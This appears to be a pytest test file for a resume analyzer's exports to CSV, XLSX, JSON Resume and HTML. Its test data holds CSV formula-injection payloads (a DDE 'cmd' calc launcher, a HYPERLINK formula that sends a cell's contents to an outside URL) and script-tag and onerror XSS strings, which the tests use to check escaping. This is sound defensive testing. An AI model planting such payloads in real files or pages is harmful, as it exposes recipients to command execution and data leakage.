"""Recruiter exports: CSV (formula-safe, optional BOM, numeric metric columns), XLSX (typed cells,
frozen header, autofilter, a metrics sheet), JSON Resume, and the templated HTML report."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest

from analyzer.cli import main
from analyzer.models.analysis import Analysis
from analyzer.render import render
from analyzer.render.csvfile import csv_text, safe_text
from analyzer.render.jsonresume import json_resume
from analyzer.render.rows import candidate_columns
from analyzer.rules.pack import load_rules
from analyzer.render.xlsx import xlsx_bytes
from tests.conftest import AS_OF, SAMPLES

KINDS = load_rules().metrics.registry
CANDIDATE_COLUMNS = candidate_columns(KINDS)


@pytest.fixture(scope="module")
def reports(analyzer):
    names = ("senior_auditor.docx", "mid_ed_coder.pdf", "entry_coder.txt")
    return {n: analyzer.run(SAMPLES / n, AS_OF, label=n).report for n in names}


def renamed(report, name):
    return report.model_copy(
        update={"candidate": report.candidate.model_copy(update={"name": name})}
    )


HOSTILE_NAMES = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    "text, expected",
    [
        *((name, "'" + name) for name in HOSTILE_NAMES),
        ("Pat O'Neil", "Pat O'Neil"),  # a quote inside is left alone
        ("Ann Lee-Smith", "Ann Lee-Smith"),  # a hyphen inside is harmless
        ("", ""),
    ],
)
def test_safe_text_prefixes_formula_triggers(text, expected):
    assert safe_text(text) == expected


@pytest.mark.parametrize("hostile", HOSTILE_NAMES)
def test_csv_keeps_a_formula_name_as_text(reports, hostile):
    rows = [(renamed(reports["entry_coder.txt"], hostile), [])]
    got = next(csv.DictReader(io.StringIO(csv_text(rows, KINDS))))
    assert got["name"] == "'" + hostile


def test_csv_numbers_are_bare_and_text_is_quoted(reports):
    rows = [(r, []) for r in reports.values()]
    text = csv_text(rows, KINDS)
    header, first = text.splitlines()[:2]
    assert header.split(",")[0] == '"rank"'
    cells = next(csv.reader([first]))
    row = dict(zip(CANDIDATE_COLUMNS, cells))
    # Denise Okonkwo (senior) ranks first: 97% accuracy, $1.4M revenue, 8 people, 11.5 years.
    assert row["name"] == "Denise Okonkwo"
    assert (row["accuracy_pct"], row["revenue_usd"], row["team_size"]) == ("97", "1400000", "8")
    assert row["experience_years"] == "11.5" and row["volume_period"] == "year"
    # numbers unquoted, text quoted (so a reader types them without guessing)
    assert ",97," in first and '"Denise Okonkwo"' in first
    # one list separator everywhere
    assert row["credentials_held"] == "RHIA; CPMA; CCS"


def test_csv_excel_option_adds_a_bom(reports):
    rows = [(reports["entry_coder.txt"], [])]
    assert csv_text(rows, KINDS, excel=True) == "\ufeff" + csv_text(rows, KINDS)
    assert not csv_text(rows, KINDS).startswith("\ufeff")


def test_batch_cli_csv_excel_and_xlsx(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    for n in ("entry_coder.txt", "mid_ed_coder.pdf"):
        (folder / n).write_bytes((SAMPLES / n).read_bytes())
    out_csv, out_xlsx = tmp_path / "r.csv", tmp_path / "r.xlsx"
    common = ["batch", str(folder), "--as-of", "2026-11-26", "--workers", "0"]
    assert main([*common, "--format", "csv", "--excel", "-o", str(out_csv)]) == 0
    assert out_csv.read_bytes().startswith(b'\xef\xbb\xbf"rank"')
    assert main([*common, "--format", "xlsx", "-o", str(out_xlsx)]) == 0
    wb = openpyxl.load_workbook(out_xlsx)
    assert wb.sheetnames == ["Candidates", "Metrics"]
    assert [c.value for c in wb["Candidates"]["C"]][1:] == ["Alicia Moreno", "Jordan Ellis"]


def test_xlsx_typed_frozen_filtered_with_metrics_sheet(reports):
    rows = [
        (renamed(reports["entry_coder.txt"], HOSTILE_NAMES[0]), []),
        (reports["senior_auditor.docx"], []),
    ]
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows, KINDS)))
    ws = wb["Candidates"]
    header = [c.value for c in ws[1]]
    assert header == list(CANDIDATE_COLUMNS)
    assert (
        ws.freeze_panes == "A2"
        and ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(CANDIDATE_COLUMNS))}3"
    )
    senior = dict(zip(header, (c for c in ws[2])))
    assert senior["name"].value == "Denise Okonkwo"
    score = reports["senior_auditor.docx"].score.overall
    for col, value in (
        ("score", score),
        ("experience_years", 11.5),
        ("revenue_usd", 1400000),
        ("rank", 1),
    ):
        assert senior[col].value == value and senior[col].data_type == "n", col
    assert senior["medical_coding"].value is True
    hostile = dict(zip(header, ws[3]))["name"]
    assert hostile.value == HOSTILE_NAMES[0] and hostile.data_type == "s" and hostile.quotePrefix
    metrics = list(wb["Metrics"].iter_rows(values_only=True))
    assert metrics[0][:5] == ("rank", "file", "name", "kind", "value")
    revenue = [m for m in metrics if m[3] == "revenue"]
    assert revenue == [
        (
            1,
            "senior_auditor.docx",
            "Denise Okonkwo",
            "revenue",
            1400000,
            None,
            None,
            "usd",
            None,
            None,
            revenue[0][10],
            revenue[0][11],
        )
    ]
    assert wb["Metrics"].freeze_panes == "A2"


def test_xlsx_bytes_do_not_depend_on_the_clock(reports, monkeypatch):
    rows = [(r, []) for r in reports.values()]
    first = xlsx_bytes(rows, KINDS)
    import time

    real = time.time
    monkeypatch.setattr(time, "time", lambda: real() + 86400 * 3)
    monkeypatch.setattr(time, "localtime", lambda *a: __import__("time").gmtime(real() + 86400 * 3))
    assert xlsx_bytes(rows, KINDS) == first


def test_json_resume_mapping(reports):
    doc = json_resume(reports["senior_auditor.docx"])
    assert set(doc) == {"$schema", "basics", "work", "certificates", "skills"}
    assert doc["basics"] == {
        "name": "Denise Okonkwo",
        "email": "denise.okonkwo@example.org",
        "phone": "404-555-0188",
        "location": {"city": "Atlanta", "region": "GA", "postalCode": "30309"},
    }
    current, earlier = doc["work"][0], doc["work"][1]
    assert current["position"] == "Manager, Coding Quality & Education" and "endDate" not in current
    assert current["startDate"] == "2020-01" and current["name"] == "Peachtree Health System"
    assert any("1.4" in h or "1,400,000" in h for h in current["highlights"])
    assert (earlier["startDate"], earlier["endDate"]) == ("2017-08", "2019-12")
    assert {
        "name": "Certified Professional Medical Auditor (CPMA)",
        "issuer": "AAPC",
        "status": "held",
    } in doc["certificates"]
    skills = {s["name"]: s["keywords"] for s in doc["skills"]}
    assert "MS-DRG" in skills["Medical code sets"] and "Epic" in skills["Coding tools and systems"]
    assert "inpatient" in skills["Specialties and settings"]


def test_json_resume_in_progress_credential_and_cli(capsys, reports):
    doc = json_resume(reports["entry_coder.txt"])
    statuses = {c["name"].rsplit("(", 1)[1].rstrip(")"): c["status"] for c in doc["certificates"]}
    assert statuses["CRC"] == "in_progress" and statuses["CPC-A"] == "apprentice"
    code = main(
        [
            "score",
            str(SAMPLES / "entry_coder.txt"),
            "--format",
            "jsonresume",
            "--as-of",
            "2026-11-26",
        ]
    )
    assert code == 0 and json.loads(capsys.readouterr().out)["basics"]["name"] == "Jordan Ellis"


def test_json_resume_of_an_unreadable_file(analyzer, tmp_path):
    bad = tmp_path / "x.pdf"
    bad.write_bytes(b"%PDF-1.7 truncated")
    doc = json_resume(analyzer.run(bad, AS_OF).report)
    assert doc["meta"]["error"]["code"] == "corrupt" and "basics" not in doc


@pytest.mark.parametrize(
    "line",
    [
        "<script>alert(1)</script> Coded 60 charts per day with CPC",
        '<img src=x onerror="alert(1)"> CPC certified',
        "Coder </div><div class=x> at <b>Mercy</b> & Co",
    ],
)
def test_html_report_copies_resume_text_inert(doc_from, analyzer, line):
    doc = doc_from(f"Pat Lee\nEXPERIENCE\nCoder, Mercy Hospital 2020-2024\n{line}\n")
    report = analyzer.analyze_document(doc, AS_OF)
    html = render(Analysis(report, doc), "html")
    assert "<script>" not in html and "<img" not in html and "<b>Mercy" not in html
    assert "&lt;" in html and "<style>" in html  # escaped text, CSS inlined


def test_html_report_of_an_error_names_the_code(analyzer, tmp_path):
    bad = tmp_path / "<bad>.pdf"
    bad.write_bytes(b"%PDF-1.7 truncated")
    html = render(analyzer.run(bad, AS_OF), "html")
    assert "Could not analyse" in html and "&lt;bad&gt;.pdf" in html and ">corrupt<" in html
